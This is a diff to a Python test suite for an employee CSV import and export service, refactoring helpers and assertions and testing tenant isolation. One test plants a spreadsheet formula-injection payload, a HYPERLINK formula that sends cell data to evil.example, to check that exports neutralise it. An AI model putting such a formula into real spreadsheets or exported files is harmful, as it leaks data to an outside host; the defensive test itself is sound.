@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import time
 from typing import Any
 
@@ -10,6 +11,7 @@ from hypothesis import given
 from hypothesis import settings as hypothesis_settings
 from hypothesis import strategies as st
 from sqlalchemy import event, select
+from sqlalchemy.ext.asyncio import AsyncSession
 
 from app.db import Database
 from app.employees.csv_format import (
@@ -21,6 +23,7 @@ from app.employees.csv_format import (
 )
 from app.employees.service import (
     LOOKUP_CHUNK,
+    ImportResult,
     create_employee,
     export_employees,
     import_employees,
@@ -37,13 +40,28 @@ def csv_file(*lines: str, newline: str = "\n", bom: bool = False) -> bytes:
 
 async def run_import(
     database: Database, tenant: NewTenant, data: bytes, *, dry_run: bool = False
-) -> Any:
+) -> ImportResult:
     async with database.tenant_session(tenant.tenant_id) as session:
         result = await import_employees(
             session, data, dry_run=dry_run, domain_id=tenant.default_domain_id
         )
         await session.commit()
     return result
+
+
+async def add_employee(
+    session: AsyncSession, domain_id: int, number: str | None, first: str, last: str, **more: str
+) -> Employee:
+    return await create_employee(
+        session,
+        domain_id=domain_id,
+        employee_number=number,
+        first_name=first,
+        last_name=last,
+        email=more.get("email"),
+        department=more.get("department"),
+        phone=more.get("phone"),
+    )
 
 
 async def employees_of(database: Database, tenant: NewTenant) -> dict[str | None, Employee]:
@@ -117,12 +135,8 @@ async def test_import_creates_then_a_second_import_updates_by_employee_number(
         await session.commit()
     # then
     assert (first.valid_count, first.created, first.updated) == (3, 3, 0)
-    assert (second.valid_count, second.created, second.updated, second.invalid_rows) == (
-        4,
-        2,
-        1,
-        [],
-    )
+    assert (second.valid_count, second.created, second.updated) == (4, 2, 1)
+    assert second.invalid_rows == []
     employees = await employees_of(database, tenant)
     assert set(employees) == {"007", "7", "008", None}
     bond = employees["007"]
@@ -158,11 +172,9 @@ async def test_file_with_utf8_bom_and_crlf_line_ends_is_imported(
     # then
     assert (result.valid_count, result.created, result.invalid_rows) == (1, 1, [])
     employee = (await employees_of(database, tenant))["0815"]
-    assert (employee.first_name, employee.last_name, employee.department) == (
-        "Jörg",
-        "Müller",
-        "Straße 1",
-    )
+    assert employee.first_name == "Jörg"
+    assert employee.last_name == "Müller"
+    assert employee.department == "Straße 1"
 
 
 async def test_latin1_file_is_refused_naming_the_byte_offset(
@@ -202,11 +214,8 @@ async def test_empty_file_is_refused(database: Database, tenant: NewTenant) -> N
     for data in (b"", b"\xef\xbb\xbf", b"\r\n  \n"):
         with pytest.raises(DomainError) as refused:
             await run_import(database, tenant, data, dry_run=True)
-        assert (refused.value.code, refused.value.field, refused.value.message) == (
-            "INVALID",
-            "file",
-            "the file is empty",
-        )
+        assert (refused.value.code, refused.value.field) == ("INVALID", "file")
+        assert refused.value.message == "the file is empty"
 
 
 def test_each_bad_line_is_reported_once_with_every_reason() -> None:
@@ -266,18 +275,17 @@ def test_quoted_fields_are_read_and_whitespace_around_fields_is_dropped() -> Non
 
 
 async def test_export_neutralises_formulas_and_reimport_restores_them(
-    database: Database, tenant: NewTenant
+    database: Database, tenant: NewTenant, other_tenant: NewTenant
 ) -> None:
     # given
     formula = '=HYPERLINK("https://evil.example/?leak="&A1;"Click")'
     async with database.tenant_session(tenant.tenant_id) as session:
-        await create_employee(
+        await add_employee(
             session,
-            domain_id=tenant.default_domain_id,
-            employee_number="-42",
-            first_name=formula,
-            last_name="@SUM(1+1)",
-            email=None,
+            tenant.default_domain_id,
+            "-42",
+            formula,
+            "@SUM(1+1)",
             department="+cmd",
             phone="+49 30 1234567",
         )
@@ -291,27 +299,27 @@ async def test_export_neutralises_formulas_and_reimport_restores_them(
     cells = parse_cells(lines[1])
     assert cells == ["'-42", "'" + formula, "'@SUM(1+1)", "", "'+cmd", "'+49 30 1234567"]
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
-    # when: the export is imported again
-    async with database.tenant_session(tenant.tenant_id) as session:
-        reimport = await import_employees(
-            session, exported.encode("utf-8"), dry_run=False, domain_id=tenant.default_domain_id
-        )
-    # then: the employee matches by number and nothing changed
-    assert (reimport.valid_count, reimport.created, reimport.updated) == (1, 0, 0)
-    parsed = parse_employees_csv(exported.encode("utf-8"))
-    assert (parsed.rows[0].first_name, parsed.rows[0].phone) == (formula, "+49 30 1234567")
+    # when: the export is imported again, into the same tenant and into a fresh one
+    same = await run_import(database, tenant, exported.encode("utf-8"))
+    fresh = await run_import(database, other_tenant, exported.encode("utf-8"))
+    # then: the same tenant's employee is unchanged; the fresh copy has the original values
+    assert (same.valid_count, same.created, same.updated) == (1, 0, 0)
+    assert (fresh.valid_count, fresh.created) == (1, 1)
+    copy = (await employees_of(database, other_tenant))["-42"]
+    assert (copy.first_name, copy.last_name, copy.department, copy.phone) == (
+        formula,
+        "@SUM(1+1)",
+        "+cmd",
+        "+49 30 1234567",
+    )
 
 
 def parse_cells(line: str) -> list[str]:
-    import csv
-
     return next(csv.reader([line], delimiter=";"))
 
 
 text_values = st.text(
-    alphabet=st.characters(
-        blacklist_categories=("Cc", "Cs", "Zl", "Zp"), blacklist_characters="\x85"
-    ),
+    alphabet=st.characters(exclude_categories=("Cc", "Cs", "Zl", "Zp"), exclude_characters="\x85"),
     min_size=1,
     max_size=30,
 ).filter(lambda s: s == s.strip())
@@ -381,16 +389,7 @@ async def test_import_into_one_tenant_is_invisible_to_another(
     assert "Bond" not in exported and "Tanner" not in exported
     async with database.tenant_session(other_tenant.tenant_id) as session:
         with pytest.raises(DomainError) as refused:
-            await create_employee(
-                session,
-                domain_id=tenant.default_domain_id,
-                employee_number="009",
-                first_name="Cross",
-                last_name="Tenant",
-                email=None,
-                department=None,
-                phone=None,
-            )
+            await add_employee(session, tenant.default_domain_id, "009", "Cross", "Tenant")
     assert refused.value.code == "NOT_FOUND"
 
 
@@ -399,40 +398,13 @@ async def test_create_employee_with_a_taken_number_is_a_conflict(
 ) -> None:
     # given
     async with database.tenant_session(tenant.tenant_id) as session:
-        await create_employee(
-            session,
-            domain_id=tenant.default_domain_id,
-            employee_number="007",
-            first_name="James",
-            last_name="Bond",
-            email=None,
-            department=None,
-            phone=None,
-        )
+        await add_employee(session, tenant.default_domain_id, "007", "James", "Bond")
         await session.commit()
     # when
     async with database.tenant_session(tenant.tenant_id) as session:
         with pytest.raises(DomainError) as refused:
-            await create_employee(
-                session,
-                domain_id=tenant.default_domain_id,
-                employee_number=" 007 ",
-                first_name="Other",
-                last_name="Agent",
-                email=None,
-                department=None,
-                phone=None,
-            )
-        seven = await create_employee(
-            session,
-            domain_id=tenant.default_domain_id,
-            employee_number="7",
-            first_name="Seven",
-            last_name="Of Nine",
-            email=None,
-            department=None,
-            phone=None,
-        )
+            await add_employee(session, tenant.default_domain_id, " 007 ", "Other", "Agent")
+        seven = await add_employee(session, tenant.default_domain_id, "7", "Seven", "Of Nine")
         await session.commit()
     # then
     assert (refused.value.code, refused.value.field) == ("CONFLICT", "employeeNumber")
@@ -493,16 +465,7 @@ async def test_number_taken_outside_the_sessions_domains_makes_the_line_invalid(
             domain_id=branch.id,
         )
         with pytest.raises(DomainError) as refused:
-            await create_employee(
-                session,
-                domain_id=branch.id,
-                employee_number="007",
-                first_name="Impostor",
-                last_name="Bond",
-                email=None,
-                department=None,
-                phone=None,
-            )
+            await add_employee(session, branch.id, "007", "Impostor", "Bond")
         await session.commit()
     # then
     assert result.valid_count == 1
